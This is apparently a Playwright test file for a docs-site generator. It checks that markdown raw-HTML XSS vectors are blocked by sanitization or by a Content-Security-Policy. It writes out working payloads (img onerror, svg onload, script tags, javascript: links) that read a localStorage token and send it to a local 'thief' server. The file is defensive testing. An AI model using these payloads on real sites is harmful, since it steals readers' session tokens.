import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { buildAndServe, type BuiltSite } from './support/sites.ts';

/**
 * The raw-HTML vectors of the hardening issue, in real Chromium, against a page that would hand the reader's token to
 * another server: every vector reports to `thief`, so a request there is a script that ran.
 */
let thief: http.Server;
let thiefUrl: string;
let stolen: string[] = [];

test.beforeAll(async () => {
  thief = http.createServer((req, res) => {
    stolen.push(req.url ?? '');
    res.writeHead(204).end();
  });
  await new Promise<void>((done) => thief.listen(0, '127.0.0.1', done));
  thiefUrl = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
});

test.afterAll(() => new Promise<void>((done) => thief.close(() => done())));

function hostilePage(): string {
  const steal = (via: string) => `new Image().src='${thiefUrl}/${via}?t='+localStorage.getItem('token')`;
  return [
    '# Primeiros passos',
    '',
    `<img src="data:image/png,x" onerror="${steal('img')}">`,
    '',
    `## Título <img src="data:image/png,x" onerror="${steal('heading')}">`,
    '',
    '| a | b |',
    '| - | - |',
    `| <img src="data:image/png,x" onerror="${steal('cell')}"> | <a id="js-link" href="javascript:${steal('link')}">link</a> |`,
    '',
    `<svg onload="${steal('svg')}"></svg>`,
    '',
    `<script>${steal('script')}</script>`,
    '',
    `Nota[^1].\n\n[^1]: <img src="data:image/png,x" onerror="${steal('footnote')}">`,
    '',
  ].join('\n');
}

const writeHostilePage = (dir: string) => fs.writeFileSync(`${dir}/content/docs/guide/first-steps.md`, hostilePage());

async function readAsSignedIn(page: Page, site: BuiltSite): Promise<void> {
  await page.addInitScript(() => localStorage.setItem('token', 'segredo-do-leitor'));
  await page.goto(`${site.url}/docs/guide/first-steps`);
  await expect(page.getByRole('heading', { level: 1, name: 'Primeiros passos' })).toBeVisible();
  await page
    .locator('#js-link')
    .click({ timeout: 2_000 })
    .catch(() => {});
  // The same page again, rendered by the viewer from its payload rather than from the prerendered HTML.
  await page.goto(`${site.url}/docs/about/intro`);
  await page.locator('nav a[href$="/docs/guide/first-steps"]').first().click();
  await expect(page.getByRole('heading', { level: 1, name: 'Primeiros passos' })).toBeVisible();
  await page
    .locator('#js-link')
    .click({ timeout: 2_000 })
    .catch(() => {});
  await page.waitForTimeout(500);
}

test('no raw-HTML vector runs script in a sanitized build, prerendered or rendered by the viewer', async ({ page }) => {
  stolen = [];
  const site = await buildAndServe('basic', undefined, writeHostilePage);
  try {
    await readAsSignedIn(page, site);
    expect(stolen).toEqual([]);
  } finally {
    await site.stop();
  }
});

test('with rawHtml "trusted" the vectors reach the page, and the Content-Security-Policy stops every one', async ({
  page,
}) => {
  stolen = [];
  const site = await buildAndServe('basic', (config) => (config.markdown = { rawHtml: 'trusted' }), writeHostilePage);
  try {
    await page.addInitScript(() => {
      const seen: string[] = [];
      (window as unknown as { violations: string[] }).violations = seen;
      document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
    });
    await readAsSignedIn(page, site);
    // The handlers are in the page, as written: only the policy keeps them from running.
    await expect(page.locator('img[onerror]').first()).toBeAttached();
    expect(stolen).toEqual([]);
    const violations = await page.evaluate(() => (window as unknown as { violations: string[] }).violations);
    expect(violations.some((v) => v.startsWith('script-src'))).toBe(true);
  } finally {
    await site.stop();
  }
});
